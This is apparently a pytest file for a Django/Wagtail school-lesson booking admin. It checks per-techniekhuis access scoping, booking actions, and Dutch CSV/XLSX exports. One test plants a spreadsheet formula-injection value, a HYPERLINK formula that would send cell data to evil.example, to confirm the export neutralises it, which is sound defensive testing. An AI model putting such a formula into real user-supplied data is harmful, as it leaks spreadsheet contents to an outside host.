"""Staff admin: coordinators see and act on their own techniekhuis's bookings only; CSV/XLSX export."""

import csv
import datetime
import io
from datetime import UTC
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext

from cms.bookings.models import Booking, LessonOffering, TimeSlot
from cms.exports import DutchExcel
from cms.outbox.models import OutgoingMail
from tests.factories import SchoolFactory, TechniekhuisPageFactory

from .factories import BookingFactory, CoordinatorFactory, LessonOfferingFactory, TimeSlotFactory, UserFactory

pytestmark = pytest.mark.django_db

INDEX = "/admin/bookings/booking/"


@pytest.fixture
def houses(region_site):
    north = TechniekhuisPageFactory(parent=region_site.techniekhuizen, title="Techniek op Noord")
    south = TechniekhuisPageFactory(parent=region_site.techniekhuizen, title="Techniekhuis op Zuid")
    return north, south


def booking_at(house, school_name, **kwargs):
    slot = TimeSlotFactory(offering=LessonOfferingFactory(techniekhuis=house))
    return BookingFactory(slot=slot, school=SchoolFactory(name=school_name), **kwargs)


@pytest.fixture
def coordinator_client(client, houses):
    user = UserFactory()
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    CoordinatorFactory(user=user, techniekhuis=houses[0])
    client.force_login(user)
    return client


def test_coordinator_sees_only_own_techniekhuis_bookings(coordinator_client, houses):
    mine = booking_at(houses[0], "OBS Noorderlicht")
    other = booking_at(houses[1], "CBS Zuiderzon")
    response = coordinator_client.get(INDEX)
    html = response.content.decode()
    assert response.status_code == 200
    assert "OBS Noorderlicht" in html
    assert "CBS Zuiderzon" not in html
    assert coordinator_client.get(f"{INDEX}inspect/{mine.pk}/").status_code == 200
    denied = coordinator_client.get(f"{INDEX}inspect/{other.pk}/")
    assert denied.status_code in (302, 403, 404)
    assert "CBS Zuiderzon" not in denied.content.decode()


def test_coordinator_cannot_act_on_another_techniekhuis_booking(coordinator_client, houses):
    other = booking_at(houses[1], "CBS Zuiderzon", status=Booking.Status.REQUESTED)
    response = coordinator_client.post(f"{INDEX}confirm/{other.pk}/")
    assert response.status_code == 404
    other.refresh_from_db()
    assert other.status == Booking.Status.REQUESTED


def test_coordinator_search_and_export_are_scoped(coordinator_client, houses):
    booking_at(houses[0], "OBS Noorderlicht")
    booking_at(houses[1], "CBS Zuiderzon")
    csv = coordinator_client.get(INDEX, {"export": "csv"})
    assert csv.status_code == 200
    text = b"".join(csv.streaming_content).decode()
    assert "OBS Noorderlicht" in text and "CBS Zuiderzon" not in text
    assert coordinator_client.get(INDEX, {"q": "Zuiderzon"}).content.decode().count("CBS Zuiderzon") == 0


def test_user_without_coordinator_role_cannot_list_bookings(client, houses):
    user = UserFactory()
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    booking_at(houses[0], "OBS Noorderlicht")
    response = client.get(INDEX)
    assert response.status_code in (302, 403)


def test_confirm_action_changes_state_and_mails_the_school(coordinator_client, houses):
    booking = booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
    assert coordinator_client.get(f"{INDEX}confirm/{booking.pk}/").status_code == 200
    response = coordinator_client.post(f"{INDEX}confirm/{booking.pk}/")
    assert response.status_code == 302
    booking.refresh_from_db()
    assert booking.status == Booking.Status.CONFIRMED
    assert OutgoingMail.objects.filter(key=f"booking-{booking.pk}-confirmation", to=[booking.email]).exists()


def test_cancel_and_complete_actions(admin_client, houses):
    a = booking_at(houses[0], "OBS A")
    b = booking_at(houses[1], "OBS B")
    admin_client.post(f"{INDEX}cancel/{a.pk}/")
    admin_client.post(f"{INDEX}complete/{b.pk}/")
    a.refresh_from_db()
    b.refresh_from_db()
    assert (a.status, b.status) == (Booking.Status.CANCELLED, Booking.Status.COMPLETED)
    assert OutgoingMail.objects.filter(key=f"booking-{a.pk}-cancelled").exists()


def test_superuser_exports_all_bookings_as_xlsx(admin_client, houses):
    booking_at(houses[0], "OBS Noorderlicht")
    booking_at(houses[1], "CBS Zuiderzon")
    response = admin_client.get(INDEX, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3
    names = {row[5] for row in rows[1:]}
    assert names == {"OBS Noorderlicht", "CBS Zuiderzon"}


def test_coordinator_sees_only_own_offerings(coordinator_client, houses):
    LessonOfferingFactory(techniekhuis=houses[0], title="Windmolens bouwen")
    LessonOfferingFactory(techniekhuis=houses[1], title="Robots programmeren")
    html = coordinator_client.get("/admin/bookings/lessonoffering/").content.decode()
    assert "Windmolens bouwen" in html and "Robots programmeren" not in html


# --- coordinators create and edit only within their own techniekhuis ----------------------------

OFFERINGS = "/admin/bookings/lessonoffering/"
SLOTS = "/admin/bookings/timeslot/"


def offering_form(techniekhuis, **overrides) -> dict:
    data = {
        "title": "Robots programmeren",
        "techniekhuis": techniekhuis.pk if techniekhuis else "",
        "location_kind": "techniekhuis",
        "location_name": "",
        "description": "",
        "duration_minutes": "90",
        "max_pupils_per_class": "32",
        "price": "150.00",
        "active": "on",
    }
    data.update(overrides)
    return data


def slot_form(offering, **overrides) -> dict:
    data = {
        "offering": offering.pk,
        "date": "2030-03-04",
        "start": "09:30",
        "end": "11:00",
        "capacity_classes": "2",
        "capacity_pupils": "",
        "booking_deadline": "",
    }
    data.update(overrides)
    return data


def test_offering_form_offers_only_the_coordinators_techniekhuis(coordinator_client, houses):
    html = coordinator_client.get(f"{OFFERINGS}create/").content.decode()
    assert f'<option value="{houses[0].pk}"' in html
    assert f'<option value="{houses[1].pk}"' not in html


def test_superuser_offering_form_accepts_every_techniekhuis(admin_client, houses):
    field = admin_client.get(f"{OFFERINGS}create/").context["form"].fields["techniekhuis"]
    assert set(field.queryset.values_list("pk", flat=True)) >= {house.pk for house in houses}
    assert admin_client.post(f"{OFFERINGS}create/", offering_form(houses[1])).status_code == 302


def test_coordinator_cannot_create_offering_for_another_techniekhuis(coordinator_client, houses):
    response = coordinator_client.post(f"{OFFERINGS}create/", offering_form(houses[1]))
    assert response.status_code == 200  # the form again, with an error
    assert "techniekhuis" in response.context["form"].errors
    assert not LessonOffering.objects.exists()


def test_coordinator_must_choose_a_techniekhuis_for_an_offering(coordinator_client, houses):
    response = coordinator_client.post(f"{OFFERINGS}create/", offering_form(None))
    assert "techniekhuis" in response.context["form"].errors
    assert not LessonOffering.objects.exists()


def test_coordinator_creates_offering_for_own_techniekhuis(coordinator_client, houses):
    response = coordinator_client.post(f"{OFFERINGS}create/", offering_form(houses[0]))
    assert response.status_code == 302
    assert LessonOffering.objects.get().techniekhuis_id == houses[0].pk


def test_coordinator_cannot_move_own_offering_to_another_techniekhuis(coordinator_client, houses):
    offering = LessonOfferingFactory(techniekhuis=houses[0], title="Windmolens")
    response = coordinator_client.post(f"{OFFERINGS}edit/{offering.pk}/", offering_form(houses[1]))
    assert "techniekhuis" in response.context["form"].errors
    offering.refresh_from_db()
    assert (offering.techniekhuis_id, offering.title) == (houses[0].pk, "Windmolens")


def test_coordinator_cannot_edit_another_techniekhuis_offering(coordinator_client, houses):
    offering = LessonOfferingFactory(techniekhuis=houses[1], title="Windmolens")
    assert coordinator_client.get(f"{OFFERINGS}edit/{offering.pk}/").status_code == 404
    response = coordinator_client.post(
        f"{OFFERINGS}edit/{offering.pk}/", offering_form(houses[1], title="Gekaapt")
    )
    assert response.status_code == 404
    offering.refresh_from_db()
    assert offering.title == "Windmolens"


def test_slot_form_offers_only_own_offerings(coordinator_client, houses):
    mine = LessonOfferingFactory(techniekhuis=houses[0])
    other = LessonOfferingFactory(techniekhuis=houses[1])
    html = coordinator_client.get(f"{SLOTS}create/").content.decode()
    assert f'<option value="{mine.pk}"' in html
    assert f'<option value="{other.pk}"' not in html


def test_coordinator_cannot_create_slot_on_another_techniekhuis_offering(coordinator_client, houses):
    other = LessonOfferingFactory(techniekhuis=houses[1])
    response = coordinator_client.post(f"{SLOTS}create/", slot_form(other))
    assert "offering" in response.context["form"].errors
    assert not TimeSlot.objects.exists()


def test_coordinator_creates_slot_on_own_offering(coordinator_client, houses):
    mine = LessonOfferingFactory(techniekhuis=houses[0])
    assert coordinator_client.post(f"{SLOTS}create/", slot_form(mine)).status_code == 302
    assert TimeSlot.objects.get().offering == mine


def test_coordinator_cannot_move_or_edit_slots_across_techniekhuizen(coordinator_client, houses):
    own_slot = TimeSlotFactory(offering=LessonOfferingFactory(techniekhuis=houses[0]), capacity_classes=2)
    other_offering = LessonOfferingFactory(techniekhuis=houses[1])
    other_slot = TimeSlotFactory(offering=other_offering, capacity_classes=2)

    moved = coordinator_client.post(f"{SLOTS}edit/{own_slot.pk}/", slot_form(other_offering))
    assert "offering" in moved.context["form"].errors
    edited = coordinator_client.post(
        f"{SLOTS}edit/{other_slot.pk}/", slot_form(other_offering, capacity_classes="9")
    )
    assert edited.status_code == 404
    own_slot.refresh_from_db()
    other_slot.refresh_from_db()
    assert own_slot.offering.techniekhuis_id == houses[0].pk
    assert other_slot.capacity_classes == 2


def test_coordinator_cannot_create_edit_or_cancel_bookings_of_another_techniekhuis(
    coordinator_client, houses
):
    mine = booking_at(houses[0], "OBS Noorderlicht")
    other = booking_at(houses[1], "CBS Zuiderzon")
    assert coordinator_client.get(f"{INDEX}new/").status_code in (302, 403)
    # bookings change state only through the actions; another techniekhuis's booking is not found
    assert coordinator_client.post(f"{INDEX}edit/{mine.pk}/", {"pupils": "99"}).status_code in (302, 403)
    assert coordinator_client.post(f"{INDEX}edit/{other.pk}/", {"pupils": "99"}).status_code == 404
    assert coordinator_client.post(f"{INDEX}cancel/{other.pk}/").status_code == 404
    assert coordinator_client.get(f"{INDEX}cancel/{other.pk}/").status_code == 404
    other.refresh_from_db()
    assert (other.status, other.pupils) == (Booking.Status.CONFIRMED, 25)
    assert Booking.objects.count() == 2


def test_dashboard_shows_the_coordinators_own_requests_to_confirm(coordinator_client, houses):
    booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
    booking_at(houses[0], "OBS Al Bevestigd", status=Booking.Status.CONFIRMED)
    booking_at(houses[1], "CBS Zuiderzon", status=Booking.Status.REQUESTED)

    html = coordinator_client.get("/admin/").content.decode()

    assert "1 boekingsaanvraag te bevestigen" in html
    assert "OBS Noorderlicht" in html
    assert "OBS Al Bevestigd" not in html and "CBS Zuiderzon" not in html


def test_dashboard_has_no_booking_panel_without_requests_or_for_other_editors(
    client, coordinator_client, houses
):
    booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.CONFIRMED)
    assert 'id="booking-requests"' not in coordinator_client.get("/admin/").content.decode()

    booking_at(houses[0], "OBS Nieuw", status=Booking.Status.REQUESTED)
    editor = UserFactory()
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(editor)
    html = client.get("/admin/").content.decode()
    assert "OBS Nieuw" not in html


def _booked(slot, n: int, status=Booking.Status.CONFIRMED) -> list[Booking]:
    from cms.bookings import services

    from .conftest import make_request

    bookings = []
    for _ in range(n):
        waitlist = status == Booking.Status.WAITLISTED
        bookings.append(services.book_slot(make_request(slot, waitlist=waitlist)).booking)
    return bookings


def test_lowering_a_slots_capacity_below_what_is_booked_is_a_form_error(coordinator_client, houses):
    slot = TimeSlotFactory(offering=LessonOfferingFactory(techniekhuis=houses[0]), capacity_classes=3)
    _booked(slot, 2)

    response = coordinator_client.post(
        f"{SLOTS}edit/{slot.pk}/",
        slot_form(slot.offering, date=f"{slot.date:%Y-%m-%d}", capacity_classes="1"),
    )

    assert response.status_code == 200
    assert "2 zijn al geboekt" in str(response.context["form"].errors["capacity_classes"])
    slot.refresh_from_db()
    assert (slot.capacity_classes, slot.booked_classes) == (3, 2)


def test_raising_a_slots_capacity_moves_the_waiting_list_up(coordinator_client, houses):
    slot = TimeSlotFactory(offering=LessonOfferingFactory(techniekhuis=houses[0]), capacity_classes=1)
    _booked(slot, 1)
    (waiting,) = _booked(slot, 1, status=Booking.Status.WAITLISTED)
    assert waiting.status == Booking.Status.WAITLISTED

    response = coordinator_client.post(
        f"{SLOTS}edit/{slot.pk}/",
        slot_form(slot.offering, date=f"{slot.date:%Y-%m-%d}", capacity_classes="2"),
        follow=True,
    )

    assert "1 boeking(en) van de wachtlijst doorgeschoven" in response.content.decode()
    waiting.refresh_from_db()
    assert waiting.status != Booking.Status.WAITLISTED
    slot.refresh_from_db()
    assert slot.booked_classes == 2


def test_saving_a_slot_never_writes_back_stale_booking_counters(houses):
    slot = TimeSlotFactory(offering=LessonOfferingFactory(techniekhuis=houses[0]), capacity_classes=3)
    stale = TimeSlot.objects.get(pk=slot.pk)
    _booked(slot, 2)  # counters move while the admin form is open

    stale.capacity_classes = 4
    stale.save()

    slot.refresh_from_db()
    assert (slot.capacity_classes, slot.booked_classes) == (4, 2)


# --- per-object views (history, inspect, edit, delete) are scoped like the lists -----------------


def _objects_at(house, school_name):
    booking = booking_at(house, school_name)
    return {"booking": booking, "timeslot": booking.slot, "lessonoffering": booking.slot.offering}


@pytest.mark.parametrize("model", ["booking", "timeslot", "lessonoffering"])
def test_coordinator_opens_only_own_history_pages(coordinator_client, houses, model):
    mine = _objects_at(houses[0], "OBS Noorderlicht")[model]
    other = _objects_at(houses[1], "CBS Zuiderzon")[model]

    assert coordinator_client.get(f"/admin/bookings/{model}/history/{mine.pk}/").status_code == 200
    response = coordinator_client.get(f"/admin/bookings/{model}/history/{other.pk}/")

    assert response.status_code == 404
    assert str(other) not in response.content.decode()


@pytest.mark.parametrize("model", ["booking", "timeslot", "lessonoffering"])
@pytest.mark.parametrize("view", ["inspect", "edit", "delete"])
def test_coordinator_gets_404_for_other_techniekhuis_object_views(coordinator_client, houses, model, view):
    other = _objects_at(houses[1], "CBS Zuiderzon")[model]
    assert coordinator_client.get(f"/admin/bookings/{model}/{view}/{other.pk}/").status_code == 404


@pytest.mark.parametrize("model", ["booking", "timeslot", "lessonoffering"])
def test_superuser_opens_every_history_page(admin_client, houses, model):
    other = _objects_at(houses[1], "CBS Zuiderzon")[model]
    assert admin_client.get(f"/admin/bookings/{model}/history/{other.pk}/").status_code == 200


def test_csv_export_neutralises_formulas_in_what_schools_typed(admin_client, houses):
    booking_at(houses[0], "@SUM(1+1)", contact_name='=HYPERLINK("https://evil.example/?"&A1,"klik")')

    response = admin_client.get(INDEX, {"export": "csv"})

    content = b"".join(response.streaming_content)
    # Dutch Excel: a UTF-8 byte order mark (else "coördinator" is garbled) and ";" between columns.
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0]["Contactpersoon"] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
    assert "'@SUM(1+1)" in rows[0].values()


# --- the list in Wagtail's own layout; exports as Dutch Excel and the admin show them ----------


def test_coordinators_filter_drawer_offers_only_their_own_techniekhuis(coordinator_client, houses):
    booking_at(houses[0], "OBS Noorderlicht")
    booking_at(houses[1], "CBS Zuiderzon")

    html = coordinator_client.get(INDEX).content.decode()

    assert 'name="techniekhuis"' in html  # Wagtail's filter drawer
    assert "Techniek op Noord" in html
    assert "Techniekhuis op Zuid" not in html


def test_status_filter_and_dutch_labels_in_the_list(coordinator_client, houses):
    booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
    booking_at(houses[0], "OBS Al Bevestigd", status=Booking.Status.CONFIRMED)

    html = coordinator_client.get(INDEX, {"status": "requested"}).content.decode()

    assert "OBS Noorderlicht" in html and "OBS Al Bevestigd" not in html
    assert "Aangevraagd" in html
    assert "Bevestigen" in html and "Boeking annuleren" in html


def test_inspect_shows_yes_no_and_local_time(coordinator_client, houses):
    booking = booking_at(houses[0], "OBS Noorderlicht", privacy_consent=True)
    Booking.objects.filter(pk=booking.pk).update(
        created_at=datetime.datetime(2026, 3, 2, 8, 15, 30, 123456, tzinfo=UTC)
    )

    html = coordinator_client.get(f"{INDEX}inspect/{booking.pk}/").content.decode()

    assert "True" not in html
    assert ">Ja<" in html.replace("\n", "").replace(" ", "")
    assert "2 maart 2026 09:15" in html  # Amsterdam is UTC+1 in March


def _created_in_winter(booking):
    Booking.objects.filter(pk=booking.pk).update(
        created_at=datetime.datetime(2026, 12, 2, 15, 46, 7, 654321, tzinfo=UTC)
    )


def test_csv_export_in_dutch_with_labels_and_local_time(coordinator_client, houses):
    booking = booking_at(
        houses[0], "OBS Noorderlicht", status=Booking.Status.CONFIRMED, amount_owed=Decimal("18.00")
    )
    _created_in_winter(booking)

    response = coordinator_client.get(INDEX, {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(content.removeprefix("\ufeff")), dialect=DutchExcel)
    [row] = list(reader)
    assert {"Nummer", "Status", "Les", "Datum", "Tijd", "School", "BRIN-code", "Aangemaakt"} <= set(row)
    assert row["Status"] == "Bevestigd"
    assert row["Akkoord met de privacyverklaring"] == "Ja"
    assert row["Aangemaakt"] == "2-12-2026 16:46"  # Europe/Amsterdam, no seconds' fractions
    assert row["Verschuldigde eigen bijdrage (EUR)"] == "18,00"


def test_xlsx_export_has_the_admins_local_time(coordinator_client, houses):
    booking = booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
    _created_in_winter(booking)

    response = coordinator_client.get(INDEX, {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = list(sheet.iter_rows(values_only=True))
    values = dict(zip(header, row, strict=True))
    assert values["Status"] == "Aangevraagd"
    assert values["Aangemaakt"] == datetime.datetime(2026, 12, 2, 16, 46, 7)
    listed = coordinator_client.get(INDEX).content.decode()
    assert "2-12-2026 16:46" in listed  # what the admin shows


def test_export_buttons_are_dutch(coordinator_client, houses):
    html = coordinator_client.get(INDEX).content.decode()

    assert "XLSX downloaden" in html and "CSV downloaden" in html
    assert "Download XLSX" not in html


def test_inspect_offers_the_actions_the_booking_allows(coordinator_client, houses):
    requested = booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
    given = booking_at(houses[0], "OBS Al Gegeven", status=Booking.Status.COMPLETED)

    html = coordinator_client.get(f"{INDEX}inspect/{requested.pk}/").content.decode()
    assert f"{INDEX}confirm/{requested.pk}/" in html and f"{INDEX}cancel/{requested.pk}/" in html

    html = coordinator_client.get(f"{INDEX}inspect/{given.pk}/").content.decode()
    assert f"/confirm/{given.pk}/" not in html and f"/cancel/{given.pk}/" not in html


def test_the_coordinators_list_asks_who_they_coordinate_once_not_per_row(coordinator_client, houses):
    for n in range(12):
        booking_at(houses[0], f"Basisschool {n}")
    with CaptureQueriesContext(connection) as queries:
        response = coordinator_client.get(INDEX)

    assert response.status_code == 200 and "Basisschool 11" in response.content.decode()
    coordinator_lookups = [q for q in queries.captured_queries if '"bookings_coordinator"' in q["sql"]]
    assert len(coordinator_lookups) <= 2, f"{len(coordinator_lookups)} coordinator queries for 12 rows"
